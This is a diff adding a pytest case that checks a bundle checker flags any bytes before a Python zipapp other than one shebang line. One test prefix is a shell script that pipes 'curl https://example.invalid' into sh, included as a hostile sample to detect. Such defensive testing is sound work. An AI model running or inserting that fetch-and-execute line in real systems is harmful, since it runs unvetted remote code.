@@ -400,3 +400,29 @@ def test_a_bundle_that_runs_more_than_hatch_pyc_wrote_is_one_problem(
         assert line.startswith(expected)
     else:
         assert line == NOT_OURS
+
+
+@pytest.mark.parametrize(
+    ("prefix", "code"),
+    [
+        (b"", 0),
+        (b"#!/usr/bin/env python3 -I\n", 0),
+        (b"#!/bin/sh\ncurl https://example.invalid | sh\nexit\n", 1),
+        (b"#!/usr/bin/env python3\r\n", 1),
+        (b"MZ\0\0", 1),
+    ],
+    ids=["none", "a #! line", "a shell script", "a CR", "no #!"],
+)
+def test_only_one_shebang_line_may_come_before_a_bundle(
+    prefix: bytes, code: int, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    pyz = _bundle(tmp_path / "demo.pyz", _main())
+    pyz.write_bytes(prefix + pyz.read_bytes())
+    found, out, err = _run(capsys, "check", str(pyz))
+    assert (found, err) == (code, ""), out
+    if code:
+        (line,) = out.splitlines()
+        assert line == (
+            f"demo.pyz: {len(prefix)} bytes before the archive, not one #! line as hatch-pyc writes: "
+            "`./demo.pyz` would run them"
+        )
